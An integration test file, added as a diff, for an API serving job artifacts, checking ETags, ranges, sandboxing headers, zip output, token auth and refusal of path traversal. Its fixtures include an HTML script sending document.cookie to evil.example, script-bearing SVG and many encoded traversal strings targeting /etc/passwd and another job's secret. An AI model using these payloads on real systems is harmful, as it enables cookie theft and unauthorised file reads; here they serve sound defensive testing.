@@ -1,0 +1,300 @@
+// Serving a job's artifacts from a real API process: artifacts are put in the folder store the API
+// reads (ARTIFACT_STORE) and their events appended with EventStream, as a worker does. The list,
+// one file (ETag, Range, disposition, sandboxing headers), the zip, paths that try to leave the
+// job, a 100 MB file streamed with flat memory, the token gate, the CLI and the retention sweep.
+import { createHash } from 'node:crypto';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import {
+  artifactKey,
+  contentTypeOf,
+  EventStream,
+  LocalArtifactStore,
+  type NewJobEvent,
+  redisKeys,
+} from '@headway/progress';
+import { Queue, Worker } from 'bullmq';
+import { unzipSync } from 'fflate';
+import { Redis } from 'ioredis';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type ProcessHandle, startApi, startWorker } from '../support/processes.ts';
+import { type RedisHandle, startRedis } from '../support/redis-server.ts';
+import { createSentinel, type Sentinel } from '../support/sentinel.ts';
+import { until } from '../support/until.ts';
+
+const root = join(import.meta.dirname, '../..');
+const TOKEN = 'artifact token';
+const PREFIX = 'serve';
+const keys = redisKeys(PREFIX);
+const DAY = 24 * 3600_000;
+
+let redis: RedisHandle;
+let client: Redis;
+let dir: string;
+let store: LocalArtifactStore;
+let stream: EventStream;
+let queue: Queue;
+let api: ProcessHandle & { url: string };
+let tokenApi: ProcessHandle & { url: string };
+let worker: ProcessHandle;
+let sentinel: Sentinel;
+
+beforeAll(async () => {
+  redis = await startRedis();
+  client = new Redis(redis.url, { protocol: 2, maxRetriesPerRequest: null });
+  dir = mkdtempSync(join(tmpdir(), 'hw-artifacts-'));
+  store = new LocalArtifactStore(join(dir, 'store'));
+  stream = new EventStream(client, keys, { maxLen: 1000 });
+  queue = new Queue('pipelines', { connection: client, prefix: PREFIX });
+  const env = { REDIS_URL: redis.url, QUEUE_PREFIX: PREFIX, DATA_DIR: join(dir, 'data'), ARTIFACT_STORE: store.root };
+  [api, tokenApi, worker] = await Promise.all([startApi(env), startApi({ ...env, API_TOKEN: TOKEN }), startWorker(env)]);
+  sentinel = await createSentinel(api.url);
+});
+
+afterAll(async () => {
+  await Promise.all([api?.stop(), tokenApi?.stop(), worker?.stop()]);
+  await queue?.close();
+  client?.disconnect();
+  await redis?.stop();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+const sha256 = (bytes: Uint8Array | string) => createHash('sha256').update(bytes).digest('hex');
+
+/** A job no worker takes (delayed a day): it only holds artifacts. */
+async function holderJob(): Promise<string> {
+  const job = await queue.add('literature-review', { input: {} }, { delay: DAY });
+  return job.id!;
+}
+
+interface PutOptions {
+  attempt?: number;
+  contentType?: string;
+  title?: string;
+  stage?: string;
+}
+
+/** Stores `body` as the job's artifact and appends its event, as a worker publishes one. */
+async function putArtifact(jobId: string, name: string, body: string | Uint8Array | ReadableStream<Uint8Array>, options: PutOptions = {}) {
+  const { attempt = 1, contentType = contentTypeOf(name), title, stage = 'finalization' } = options;
+  const source = body instanceof ReadableStream ? body : new Response(body).body!;
+  const stored = await store.put(artifactKey(jobId, attempt, name), source, { contentType, maxBytes: 200 * 1024 * 1024 });
+  const event: NewJobEvent = {
+    kind: 'artifact', jobId, attempt, ts: new Date().toISOString(), stage, name, contentType, ...stored, ...(title && { title }),
+  };
+  await stream.append(jobId, [event]);
+  return stored;
+}
+
+const get = (path: string, headers: Record<string, string> = {}) => fetch(api.url + path, { headers, signal: AbortSignal.timeout(30_000) });
+
+const REPORT = '# Report\n\n![radar](charts/radar.svg)\n';
+const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><rect width="4" height="4"/></svg>';
+const SECRET = 'the-other-jobs-secret-bytes';
+const HTML = '<!doctype html><script>fetch("https://evil.example/?c=" + document.cookie)</script>';
+
+describe('serving artifacts', () => {
+  let jobId: string;
+
+  beforeAll(async () => {
+    jobId = await holderJob();
+    await putArtifact(jobId, 'report.md', 'first attempt\n');
+    await putArtifact(jobId, 'report.md', REPORT, { attempt: 2, title: 'The report' });
+    await putArtifact(jobId, 'charts/radar.svg', SVG, { attempt: 2, stage: 'visualization' });
+    await putArtifact(jobId, 'data/rows.csv', 'a,b\n1,2\n', { attempt: 2 });
+    await putArtifact(jobId, 'page.html', HTML, { attempt: 2 });
+    await putArtifact(jobId, 'blob.bin', new Uint8Array([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]), { attempt: 2 });
+    await putArtifact(jobId, 'notes/ünïcode “name”.txt', 'hello', { attempt: 2 });
+  });
+
+  it('lists every attempt’s artifacts in the order they were published, with their events’ facts', async () => {
+    const res = await get(`/api/jobs/${jobId}/artifacts`);
+    expect(res.status).toBe(200);
+    const { artifacts } = (await res.json()) as { artifacts: Record<string, unknown>[] };
+    expect(artifacts.map((a) => [a.name, a.attempt])).toEqual([
+      ['report.md', 1], ['report.md', 2], ['charts/radar.svg', 2], ['data/rows.csv', 2], ['page.html', 2], ['blob.bin', 2], ['notes/ünïcode “name”.txt', 2],
+    ]);
+    expect(artifacts[1]).toEqual({
+      name: 'report.md', size: REPORT.length, contentType: 'text/markdown; charset=utf-8', sha256: sha256(REPORT), stage: 'finalization', attempt: 2,
+      title: 'The report', createdAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
+    });
+    expect(artifacts[2]).toMatchObject({ stage: 'visualization' });
+    expect((await get('/api/jobs/no-such-job/artifacts')).status).toBe(404);
+    const other = await holderJob();
+    expect(await (await get(`/api/jobs/${other}/artifacts`)).json()).toEqual({ artifacts: [] });
+  });
+
+  it('serves the newest attempt’s file by default, an older one with ?attempt, sandboxed, with its type, length and ETag', async () => {
+    const res = await get(`/api/jobs/${jobId}/artifacts/report.md`);
+    expect(res.status).toBe(200);
+    expect(await res.text()).toBe(REPORT);
+    expect(Object.fromEntries(res.headers)).toMatchObject({
+      'content-type': 'text/markdown; charset=utf-8',
+      'content-length': String(REPORT.length),
+      etag: `"${sha256(REPORT)}"`,
+      'accept-ranges': 'bytes',
+      'content-disposition': `inline; filename="report.md"; filename*=UTF-8''report.md`,
+      'content-security-policy': "sandbox; default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'",
+      'x-content-type-options': 'nosniff',
+      'cross-origin-resource-policy': 'same-origin',
+    });
+    const first = await get(`/api/jobs/${jobId}/artifacts/report.md?attempt=1`);
+    expect(await first.text()).toBe('first attempt\n');
+    expect((await get(`/api/jobs/${jobId}/artifacts/report.md?attempt=3`)).status).toBe(404);
+    expect((await get(`/api/jobs/${jobId}/artifacts/missing.md`)).status).toBe(404);
+  });
+
+  it('answers 304 to a matching If-None-Match, and the whole file to another', async () => {
+    const etag = `"${sha256(REPORT)}"`;
+    const same = await get(`/api/jobs/${jobId}/artifacts/report.md`, { 'if-none-match': etag });
+    expect(same.status).toBe(304);
+    expect(await same.text()).toBe('');
+    expect(same.headers.get('etag')).toBe(etag);
+    const other = await get(`/api/jobs/${jobId}/artifacts/report.md`, { 'if-none-match': `"${'0'.repeat(64)}"` });
+    expect(other.status).toBe(200);
+    expect(await other.text()).toBe(REPORT);
+  });
+
+  it('answers one Range with 206 and Content-Range, and 416 past the end', async () => {
+    const path = `/api/jobs/${jobId}/artifacts/blob.bin`;
+    const middle = await get(path, { range: 'bytes=2-5' });
+    expect(middle.status).toBe(206);
+    expect(middle.headers.get('content-range')).toBe('bytes 2-5/10');
+    expect(middle.headers.get('content-length')).toBe('4');
+    expect([...new Uint8Array(await middle.arrayBuffer())]).toEqual([2, 3, 4, 5]);
+    const tail = await get(path, { range: 'bytes=-3' });
+    expect(tail.status).toBe(206);
+    expect([...new Uint8Array(await tail.arrayBuffer())]).toEqual([7, 8, 9]);
+    const open = await get(path, { range: 'bytes=8-' });
+    expect(open.headers.get('content-range')).toBe('bytes 8-9/10');
+    const past = await get(path, { range: 'bytes=10-20' });
+    expect(past.status).toBe(416);
+    expect(past.headers.get('content-range')).toBe('bytes */10');
+    const several = await get(path, { range: 'bytes=0-1,4-5' });
+    expect(several.status).toBe(200);
+    expect((await several.arrayBuffer()).byteLength).toBe(10);
+  });
+
+  it('shows previews inline and makes HTML and unknown bytes downloads, never inline', async () => {
+    const cases: [string, string, string][] = [
+      ['charts/radar.svg', 'image/svg+xml', 'inline; filename="radar.svg"'],
+      ['data/rows.csv', 'text/csv; charset=utf-8', 'inline; filename="rows.csv"'],
+      ['page.html', 'text/html; charset=utf-8', 'attachment; filename="page.html"'],
+      ['blob.bin', 'application/octet-stream', 'attachment; filename="blob.bin"'],
+    ];
+    for (const [name, type, disposition] of cases) {
+      const res = await get(`/api/jobs/${jobId}/artifacts/${name}`);
+      expect(res.status, name).toBe(200);
+      expect(res.headers.get('content-type'), name).toBe(type);
+      expect(res.headers.get('content-disposition'), name).toContain(disposition);
+      expect(res.headers.get('content-security-policy'), name).toMatch(/^sandbox; default-src 'none'/);
+      expect(res.headers.get('x-content-type-options'), name).toBe('nosniff');
+    }
+    const forced = await get(`/api/jobs/${jobId}/artifacts/charts/radar.svg?download=1`);
+    expect(forced.headers.get('content-disposition')).toBe(`attachment; filename="radar.svg"; filename*=UTF-8''radar.svg`);
+    const unicode = await get(`/api/jobs/${jobId}/artifacts/notes/${encodeURIComponent('ünïcode “name”.txt')}?download=1`);
+    expect(unicode.status).toBe(200);
+    expect(await unicode.text()).toBe('hello');
+    expect(unicode.headers.get('content-disposition')).toBe(
+      `attachment; filename="_n_code _name_.txt"; filename*=UTF-8''%C3%BCn%C3%AFcode%20%E2%80%9Cname%E2%80%9D.txt`,
+    );
+  });
+
+  it('refuses names that climb out, are absolute or hold backslashes with 4xx, and reads nothing outside the job', async () => {
+    const victim = await holderJob();
+    await putArtifact(victim, 'secret.txt', SECRET);
+    const before = await sentinel.snapshot();
+    const tries = [
+      `..%2F..%2F${victim}%2F1%2Fsecret.txt`,
+      `..%2f${victim}%2f1%2fsecret.txt`,
+      `%2e%2e/%2e%2e/${victim}/1/secret.txt`,
+      `%2E%2E%2F%2E%2E%2F${victim}%2F1%2Fsecret.txt`,
+      `2/..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd`,
+      '%2Fetc%2Fpasswd',
+      '/etc/passwd',
+      '..%5C..%5Csecret.txt',
+      'a%5Cb.txt',
+      `%2e%2e%5c%2e%2e%5c${victim}%5c1%5csecret.txt`,
+      'report.md%00.txt',
+      `1/secret.txt`,
+      `../${victim}/1/secret.txt`,
+    ];
+    for (const path of tries) {
+      const res = await fetch(`${api.url}/api/jobs/${jobId}/artifacts/${path}`);
+      const text = await res.text();
+      expect(res.status, path).toBeGreaterThanOrEqual(400);
+      expect(res.status, path).toBeLessThan(500);
+      expect(text, path).not.toContain(SECRET);
+      expect(text, path).not.toContain('root:');
+    }
+    // Raw request lines, which fetch would have normalised. Bun resolves dot segments before
+    // routing (so ../../<job>/artifacts/x is that job's own URL, under the same access rules);
+    // backslashes and encoded dots reach the route and are refused.
+    const raw = [
+      `/api/jobs/${jobId}/artifacts/..\\..\\${victim}\\1\\secret.txt`,
+      `/api/jobs/${jobId}/artifacts/%2e%2e/%2e%2e/%2e%2e/${victim}/1/secret.txt`,
+      `/api/jobs/${jobId}/artifacts/.%2e/.%2e/${victim}/1/secret.txt`,
+    ];
+    for (const path of raw) {
+      const answer = await rawGet(path);
+      expect(answer, path).toMatch(/^HTTP\/1\.1 4\d\d /);
+      expect(answer, path).not.toContain(SECRET);
+    }
+    const climbed = await rawGet(`/api/jobs/${jobId}/artifacts/../../../../../../etc/passwd`);
+    expect(climbed).not.toContain('root:');
+    expect(await sentinel.snapshot()).toBe(before);
+    await sentinel.expectUnchanged();
+  });
+
+  it('zips every artifact of the newest attempt, byte for byte, or of the attempt asked for', async () => {
+    const res = await get(`/api/jobs/${jobId}/artifacts.zip`);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('application/zip');
+    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="job-${jobId}-artifacts.zip"`);
+    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
+    expect(Object.keys(files).sort()).toEqual(['blob.bin', 'charts/radar.svg', 'data/rows.csv', 'notes/ünïcode “name”.txt', 'page.html', 'report.md']);
+    expect(new TextDecoder().decode(files['report.md'])).toBe(REPORT);
+    expect(new TextDecoder().decode(files['charts/radar.svg'])).toBe(SVG);
+    expect([...files['blob.bin']!]).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
+    const first = unzipSync(new Uint8Array(await (await get(`/api/jobs/${jobId}/artifacts.zip?attempt=1`)).arrayBuffer()));
+    expect(Object.keys(first)).toEqual(['report.md']);
+    expect(new TextDecoder().decode(first['report.md'])).toBe('first attempt\n');
+    expect((await get(`/api/jobs/${await holderJob()}/artifacts.zip`)).status).toBe(404);
+  });
+
+  it('needs the token when the API has one', async () => {
+    const paths = [`/api/jobs/${jobId}/artifacts`, `/api/jobs/${jobId}/artifacts/report.md`, `/api/jobs/${jobId}/artifacts.zip`];
+    for (const path of paths) {
+      const res = await fetch(tokenApi.url + path);
+      expect(res.status, path).toBe(401);
+      expect(((await res.json()) as { error: { code: string } }).error.code).toBe('UNAUTHORIZED');
+      const allowed = await fetch(tokenApi.url + path, { headers: { authorization: `Bearer ${TOKEN}` } });
+      expect(allowed.status, path).toBe(200);
+      await allowed.arrayBuffer();
+    }
+  });
+});
+
+/** A GET sent as written, without the client resolving dot segments or backslashes. */
+async function rawGet(path: string): Promise<string> {
+  const { hostname, port } = new URL(api.url);
+  let answer = '';
+  await new Promise<void>((resolve, reject) => {
+    Bun.connect({
+      hostname,
+      port: Number(port),
+      socket: {
+        open(socket) {
+          socket.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
+        },
+        data(_socket, data) {
+          answer += data.toString();
+        },
+        close: () => resolve(),
+        error: (_socket, error) => reject(error),
+      },
+    }).catch(reject);
+  });
+  return answer;
+}
